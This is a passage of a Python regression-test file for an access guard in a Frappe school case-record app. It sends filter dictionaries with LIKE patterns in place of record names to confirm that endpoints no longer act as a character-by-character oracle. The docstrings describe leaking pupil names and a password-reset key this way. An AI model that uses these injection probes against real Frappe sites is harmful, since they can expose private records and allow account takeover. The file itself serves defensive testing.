				{**todo, "reference_type": "Meldcode Dossier", "reference_name": self.records.dossier}
			)
			plain = frappe.get_doc(todo)
			for made in (case, plain):
				made.insert(ignore_permissions=True)
			logged = frappe.get_all("Energy Point Log", {"rule": rule.name}, pluck="reference_name")
			self.assertEqual(logged, [plain.name], "the other ToDo earns its point: the control")
		finally:
			frappe.db.rollback()
			frappe.cache_manager.clear_doctype_map("Energy Point Rule", "ToDo")  # as deleting it would
			frappe.db.set_single_value("Energy Point Settings", "enabled", enabled)
			frappe.db.commit()

	def test_a_record_is_named_by_text_never_by_filters(self):
		"""Round 200: Frappe finds a record by a name that is a dictionary as by filters and answers
		whether one matched: a teacher read a signal's text and a pupil's name one character at a
		time through get_docinfo, a Website User a case ToDo's, and anyone a parent's contact
		through get_link_title. The control: the case team names the record by text."""
		af = staff_user("B", "Aandachtsfunctionaris")
		docinfo = "frappe.desk.form.load.get_docinfo"
		title = "frappe.desk.search.get_link_title"
		for user, door, doctype, field, matching in (
			(TEACHER_A, docinfo, "Meldcode Signal", "situation", "%"),
			(WEBSITE_USER, docinfo, "ToDo", "description", "Termijn%"),
			(TEACHER_A, title, "Contact", "email_id", "%"),
		):
			key = "name" if door == docinfo else "docname"
			answers = [
				self.call(user, door, "json", doctype=doctype, **{key: {field: ["like", like]}})
				for like in (matching, "zz-niets-zz%")
			]
			self.assertEqual(answers[0], answers[1], "a match is answered as none")
			self.assertEqual(answers[0][0], 403, answers[0])
		# the control: another app's posted record keeps its rows (a Sales Order's items)
		from meldcode_app.access.request_guard import names_records_as_text

		order = {"doctype": "Sales Order", "name": "SO-1", "items": [{"item_code": "Schrift"}]}
		self.assertTrue(names_records_as_text("frappe.desk.form.save.savedocs", {"doc": json.dumps(order)}))
		deleted = {"doctype": "Note", "items": json.dumps([{"title": ["like", "%"]}])}
		self.assertFalse(names_records_as_text("frappe.desk.reportview.delete_items", deleted))
		status, answer = self.call(af, docinfo, "json", doctype="Meldcode Dossier", name=self.records.dossier)
		self.assertEqual(status, 200, f"the control: by its name: {answer}")

	def test_filters_a_request_wrote_find_only_what_its_reader_may_list(self):
		"""Round 201: methods take a record's name in other arguments too (get_next's value,
		remove_attach's fid, delete_communication's reference_docname, a message preview's
		reference_doc, a calendar's args), and Frappe looks a dictionary up as filters before anyone
		asks whether its reader may read what matched: a Website User read a case ToDo and the mail
		queue's reset key of a case-team member a character at a time, and logged in as her (again
		with JSON text that began with whitespace, round 206). Filters
		from the request find only what the reader may list, wherever Frappe looks them up. The
		control: the case team through the same doors."""
		af = staff_user("B", "Aandachtsfunctionaris")
		queued = frappe.get_doc(
			{
				"doctype": "Email Queue",
				"message": "Reset: /update-password?key=Geheim201sleutel",
				"status": "Sent",
				"recipients": [{"recipient": af}],
			}
		).insert(ignore_permissions=True)
		self.addCleanup(frappe.db.delete, "Email Queue", {"name": queued.name})
		frappe.db.commit()
		event = {"doctype": "Event", "name": "x"}

		def door(like, doctype="ToDo", field="description"):
			named = {"doctype": doctype, "name": {field: ["like", like]}, "date": "2026-12-07"}
			event_args = {
				"args": json.dumps(named),
				"field_map": json.dumps({"start": "date", "end": "date"}),
			}
			return {
				"get_next": (
					"frappe.desk.form.utils.get_next",
					{
						"doctype": doctype,
						"prev": 0,
						"sort_order": "desc",
						"sort_field": field,
						"value": {field: ["like", like]},
					},
				),
				"remove_attach": (
					"frappe.desk.form.utils.remove_attach",
					{"fid": [{"file_name": ["like", like]}]},
				),
				"delete_communication": (
					"frappe.desk.doctype.event.event.delete_communication",
					{
						"event": event,
						"reference_doctype": doctype,
						"reference_docname": {field: ["like", like]},
					},
				),
				"message_preview": (
					"frappe.automation.doctype.auto_repeat.auto_repeat.generate_message_preview",
					{"reference_dt": doctype, "reference_doc": {field: ["like", like]}, "message": "x"},
				),
				"update_event": ("frappe.desk.calendar.update_event", event_args),
				# JSON text with whitespace before it is a dictionary to Frappe too (round 206)
				"update_event_spaced": (
					"frappe.desk.calendar.update_event",
					{**event_args, "args": "\n " + event_args["args"]},
				),
			}

		def answers(user, name, matching, **where):
			found = []
			for like in (matching, "zz-niets-zz%"):
				method, params = door(like, **where)[name]
				status, answer = self.call(user, method, "json", **params)
				found.append((status, str(answer).replace(like, "*")))
			return found

		queued_mail = {"doctype": "Email Queue", "field": "message"}
		for user, name, matching, where in (
			(TEACHER_A, "get_next", "Termijn%", {}),
			(TEACHER_A, "remove_attach", "bijlage-dossier-b%", {}),
			(WEBSITE_USER, "delete_communication", "Termijn%", {}),
			(
				WEBSITE_USER,
				"delete_communication",
				"%key=Geheim201%",
				queued_mail,
			),
			(SYSTEM_MANAGER, "message_preview", "Termijn%", {}),
			(TEACHER_A, "update_event", "Termijn%", {}),
			(
				WEBSITE_USER,
				"update_event_spaced",
				"%key=Geheim201%",
				queued_mail,
			),
			(TEACHER_A, "update_event_spaced", "Termijn%", {}),
		):
			match, none = answers(user, name, matching, **where)
			self.assertEqual(match, none, f"{name} as {user}: a match is answered as none")
		self.assertEqual(
			frappe.db.get_value("ToDo", {"reference_name": self.records.dossier}, "description"), "Termijn"
		)
		match, none = answers(af, "get_next", "Termijn%")
		self.assertNotEqual(match, none, "the control: the case team's ToDo is found by the same door")
		match, none = answers(af, "delete_communication", "Termijn%")
		self.assertNotEqual(match, none, "the control: and by the event's door")

		# a record posted as plain text, which Frappe reads itself, with a link that is filters: a
		# guest's ToDo told whether a case ToDo or a queued reset mail matched (round 208)
		def posted(authorization, reference_type, reference_name):
			body = {
				"description": "proef",
				"reference_type": reference_type,
				"reference_name": reference_name,
			}
			frappe.db.rollback()
			status, answer = request_as(authorization, "/api/resource/ToDo", "text", body=json.dumps(body))
			return status, answer

		for reference_type, field, matching in (
			("ToDo", "description", "Termijn%"),
			("Email Queue", "message", "%key=Geheim201%"),
		):
			match, none = (
				posted({}, reference_type, {field: ["like", like]}) for like in (matching, "zz-niets-zz%")
			)
			self.assertEqual(match[0], none[0], f"{reference_type}: {match} {none}")
		case_todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier})
		# and wherever a record is saved, a link is a name: Frappe looks it up before any permission
		todo = {"doctype": "ToDo", "description": "proef", "reference_type": "ToDo"}
		linked = frappe.get_doc({**todo, "reference_name": {"description": ["like", "Termijn%"]}})
		self.assertRaises(frappe.LinkValidationError, linked.insert)
		self.assertTrue(frappe.get_doc({**todo, "reference_name": case_todo}).insert().name, "the control")
		frappe.db.rollback()
		status, answer = posted(self.tokens[af], "ToDo", case_todo)
		self.assertEqual(status, 200, f"the control: the case team links her ToDo by its name: {answer}")
		frappe.db.delete("ToDo", {"reference_type": "ToDo", "reference_name": case_todo})
		frappe.db.commit()

	def test_every_method_judged_by_name_is_judged_by_the_name_it_is_defined_under(self):
		"""An override or rule keyed by an alias (``frappe.handler.download_file``) would leave the
		function's own name unjudged: each judged name's function is judged under its own name too."""
		judged = request_guard.methods_judged_by_name()
		unjudged = []
		for name in judged:
			try:
				function = frappe.get_attr(name)
			except Exception:
				continue  # a page, or a method of an app this site does not have
			defined = f"{function.__module__}.{function.__qualname__}"
			if defined not in judged:
				unjudged.append(f"{name} is {defined}")
		self.assertGreater(len(judged), 50)
		self.assertEqual(unjudged, [])


def a_new_connection():
	"""A connection of the site's own, made as a request's is (the test's was made before the
	app's watch started)."""
	from frappe.database import get_db

	conf = frappe.local.conf
	return get_db(
		socket=conf.db_socket,
		host=conf.db_host,
		port=conf.db_port,
		user=conf.db_name,
		password=conf.db_password,
		cur_db_name=conf.db_name,
	)


def api_token(user: str) -> str:
	"""An Authorization header for ``user`` (API key and secret), committed for the requests."""
	doc = frappe.get_doc("User", user)
	secret = frappe.generate_hash(length=15)
	doc.api_key = doc.api_key or frappe.generate_hash(length=15)
	doc.api_secret = secret
	doc.flags.ignore_permissions = True
	doc.save()
	return f"token {doc.api_key}:{secret}"


def doctype_of_ones_own(name: str):
	"""A custom DocType a System Manager (and a Blogger) may change: a positive control."""
	return frappe.get_doc(
		{
			"doctype": "DocType",
			"name": name,
			"module": "Custom",
			"custom": 1,
			"fields": [{"fieldname": "titel", "fieldtype": "Data", "label": "Titel"}],
			"permissions": [
				{"role": "System Manager", "read": 1, "write": 1},
				{"role": "Blogger", "read": 1},
			],
		}
	).insert()


def request_as(authorization: str | dict, door: str, http: str = "get", /, **params) -> tuple[int, object]:
	"""A request through Frappe's own WSGI application, in a thread of its own (as Frappe's API
	tests do); returns (HTTP status, the data it answered with). ``authorization``: the header's
	value, or all the request's headers."""
	client = get_test_client(use_cookies=False)  # each request as its own user
	target = {"json": client.post, "text": client.post, "form-put": client.put}.get(http) or getattr(
		client, http
	)
	path = door if door.startswith("/") else f"/api/method/{door}"
	body = {k: v if isinstance(v, str | int) else json.dumps(v, default=str) for k, v in params.items()}
	kwargs = {
		"headers": authorization if isinstance(authorization, dict) else {"Authorization": authorization}
	}
	if http == "json":  # the arguments as one JSON body
		kwargs["json"] = params
	elif http == "text":  # a body Frappe reads itself, sent as plain text
		kwargs.update(data=params["body"], content_type="text/plain")
	elif http == "form-put":  # a body Frappe reads itself, said to be a form
		kwargs.update(data=params["body"], content_type="application/x-www-form-urlencoded")
	else:
		kwargs["query_string" if http == "get" else "data"] = body
	response = make_request(target=target, args=(path,), kwargs=kwargs)
	if response is None:  # the application raised past its own error handling
		return 500, None
	if response.is_json:
		payload = response.json
	elif response.mimetype == "application/pdf":
		payload = response.get_data()
	else:
		payload = response.get_data(as_text=True)
	if isinstance(payload, dict):
		payload = payload.get("message", payload.get("data", payload.get("exception")))
	return response.status_code, payload


def probe(title, method, leaks, open_to, http="get", admin=True, **params) -> dict:
	"""A door: who gets through (Administrator too unless ``admin`` is False), and how to tell."""
	return {
		"admin": admin,
		"name": title,
		"method": method,
		"leaks": leaks,
		"open_to": open_to,
		"http": http,
		"params": params,
	}


def uploaded(authorization: str, name: str):
	"""A private upload of one's own through the desk's door, with content no other file has."""
	client = get_test_client(use_cookies=False)
	return make_request(
		target=client.post,
		args=("/api/method/upload_file",),
		kwargs={
			"headers": {"Authorization": authorization},
			"data": {"file": (io.BytesIO(frappe.generate_hash().encode()), name), "is_private": "1"},
			"content_type": "multipart/form-data",
		},
	)


def connection_of_note(link_fieldname: str):
	"""A custom connection of Note to ToDo by ``link_fieldname``, saved as Customize Form saves one
	(by the bench's Administrator, whom the checks of a customisation let through)."""
	return frappe.get_doc(
		{
			"doctype": "DocType Link",
			"parent": "Note",
			"parenttype": "Customize Form",
			"parentfield": "links",
			"link_doctype": "ToDo",
			"link_fieldname": link_fieldname,
			"group": "Proef",
			"custom": 1,
		}
	).insert()


def set_file_value(authorization: str, name: str, **values) -> tuple[int, object]:
	return request_as(
		authorization, "frappe.client.set_value", "post", doctype="File", name=name, fieldname=values
	)


def fresh_case_file(dossier: str) -> str:
	"""A file the dossier's aandachtsfunctionaris attaches to it; its name."""
	return as_user(staff_user("B", "Aandachtsfunctionaris"))(
		frappe.get_doc(
			{
				"doctype": "File",
				"file_name": "nieuw.txt",
				"content": b"nieuw",
				"is_private": 1,
				"attached_to_doctype": "Meldcode Dossier",
				"attached_to_name": dossier,
			}
		).insert
	).name


def remove_records_of_school(school: str):
	"""What the class made, with Frappe's traces of it (the app refuses deletion in the desk)."""
	for doctype in RECORD_DOCTYPES:
		if not frappe.get_meta(doctype).has_field("school"):
			continue
		names = frappe.get_all(doctype, {"school": school}, pluck="name")
		if not names:
			continue
		for trace, (doctype_field, name_field) in TRACE_DOCTYPES.items():
			frappe.db.delete(trace, {doctype_field: doctype, name_field: ("in", names)})
		frappe.db.delete("Tag Link", {"document_type": doctype, "document_name": ("in", names)})
		for child, parents in CHILD_DOCTYPES.items():
			if doctype in parents:
				frappe.db.delete(child, {"parenttype": doctype, "parent": ("in", names)})
		frappe.db.delete(doctype, {"name": ("in", names)})
	frappe.db.delete(
		"File", {"attached_to_doctype": "ToDo", "attached_to_name": ("like", "meldcode-guard-%")}
	)
	frappe.db.delete("ToDo", {"name": ("like", "meldcode-guard-%")})
	frappe.db.delete("Dashboard Chart", {"name": ("in", list(CHARTS.values()))})


def own_todo(user: str) -> str:
	return f"meldcode-guard-{frappe.scrub(user)}"
